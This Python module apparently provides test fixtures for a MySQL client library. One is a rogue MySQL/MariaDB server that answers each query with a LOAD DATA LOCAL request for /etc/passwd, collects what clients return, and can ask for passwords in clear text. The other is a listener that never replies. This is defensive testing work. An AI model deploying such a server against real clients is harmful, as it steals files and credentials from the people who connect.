"""Servers that mean harm: one that speaks MySQL and asks for files, and one that never speaks."""

import contextlib
import socket
import struct
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

CAPABILITIES = 0x0008_0000 | 0x8000 | 0x0200 | 0x0080 | 0x0008 | 0x0004 | 0x0001
"""Named login plugins, secure login, 4.1 protocol, LOCAL FILES, database at login, long flags."""
OK = b"\x00\x00\x00\x02\x00\x00\x00"
COM_QUIT, COM_QUERY, COM_PREPARE = 1, 3, 22


@dataclass
class Hostile:
    """What a hostile server has seen; it answers on ``port`` until its block ends."""

    port: int = 0
    host: str = "127.0.0.1"
    connections: int = 0
    logins: int = 0
    statements: list[str] = field(default_factory=list)
    """What it was asked, in order."""
    requests: int = 0
    """How often it asked for the file."""
    stolen: bytearray = field(default_factory=bytearray)
    """What clients sent of the file that they were asked for."""
    clear_passwords: list[bytes] = field(default_factory=list)
    """Passwords that clients sent in the clear when they were asked to."""
    _sockets: list[socket.socket] = field(default_factory=list)


@contextlib.contextmanager
def file_thief(path: str = "/etc/passwd", *, asks_for_password: bool = False) -> Iterator[Hostile]:
    """Run a MySQL server that lets everybody in and answers each query with LOAD DATA LOCAL of ``path``.

    With ``asks_for_password`` it first has the client repeat its password in the clear.
    """
    seen = Hostile()

    def talk(client: socket.socket) -> None:
        talker = _Talker(client)
        talker.send(_greeting())
        talker.receive()
        if asks_for_password:
            talker.send(b"\xfemysql_clear_password\x00")
            seen.clear_passwords.append(talker.receive())
        talker.send(OK)
        seen.logins += 1
        command = talker.receive()
        while command[0] != COM_QUIT:
            command = _answer(talker, command, path, seen) or talker.receive()

    with _listening(seen, talk):
        yield seen


@contextlib.contextmanager
def silent(greeting: bytes = b"") -> Iterator[Hostile]:
    """Run a listener that accepts, says ``greeting`` and then nothing for ever."""
    seen = Hostile()

    def talk(client: socket.socket) -> None:
        client.sendall(greeting)
        while client.recv(65_536):
            pass

    with _listening(seen, talk):
        yield seen


@contextlib.contextmanager
def _listening(seen: Hostile, talk: Callable[[socket.socket], None]) -> Iterator[None]:
    """Give each client a thread that talks to it; all of them end with the block."""
    server = socket.create_server((seen.host, 0), backlog=100)
    seen.port = server.getsockname()[1]
    threads = []

    def serve(client: socket.socket) -> None:
        with client, contextlib.suppress(OSError, _Left):
            talk(client)

    def accept() -> None:
        while True:
            try:
                client, _ = server.accept()
            except OSError:
                return
            seen.connections += 1
            seen._sockets.append(client)
            threads.append(threading.Thread(target=serve, args=(client,), daemon=True))
            threads[-1].start()

    threads.append(threading.Thread(target=accept, daemon=True))
    threads[0].start()
    try:
        yield
    finally:
        for each in (server, *seen._sockets):
            with contextlib.suppress(OSError):
                each.shutdown(socket.SHUT_RDWR)
        for thread in threads:
            thread.join(5)
        server.close()


class _Left(Exception):
    """The client closed its connection."""


class _Talker:
    """Packets of the MySQL protocol: three bytes of length, one of sequence, then the content."""

    def __init__(self, client: socket.socket) -> None:
        self.client = client
        self.sequence = 0

    def send(self, content: bytes) -> None:
        header = len(content).to_bytes(3, "little") + bytes([self.sequence % 256])
        self.sequence += 1
        self.client.sendall(header + content)

    def receive(self) -> bytes:
        header = self._exactly(4)
        self.sequence = header[3] + 1
        return self._exactly(int.from_bytes(header[:3], "little"))

    def _exactly(self, size: int) -> bytes:
        got = b""
        while len(got) < size:
            more = self.client.recv(size - len(got))
            if not more:
                raise _Left
            got += more
        return got


def _greeting() -> bytes:
    """Return the first packet of a server: version, scramble, abilities."""
    low, high = CAPABILITIES & 0xFFFF, CAPABILITIES >> 16
    return (
        b"\x0a10.11.6-MariaDB\x00"
        + struct.pack("<I", 1)
        + b"scramble\x00"
        + struct.pack("<HBHHB", low, 45, 2, high, 21)
        + bytes(10)
        + b"morescramble\x00"
        + b"mysql_native_password\x00"
    )


def _answer(talker: _Talker, command: bytes, path: str, seen: Hostile) -> bytes:
    """Ask for the file at every query that is not a setting, and take what comes.

    Returns the next command where the client gave that in place of a file, else nothing.
    """
    statement = command[1:].decode("utf-8", errors="replace")
    if command[0] in {COM_QUERY, COM_PREPARE}:
        seen.statements.append(statement)
    if command[0] not in {COM_QUERY, COM_PREPARE} or statement.upper().startswith("SET "):
        talker.send(OK)
        return b""
    seen.requests += 1
    talker.send(b"\xfb" + path.encode())
    while content := talker.receive():
        if talker.sequence == 1:  # a new command, not a packet of the file
            return content
        seen.stolen += content
    talker.send(OK)
    return b""
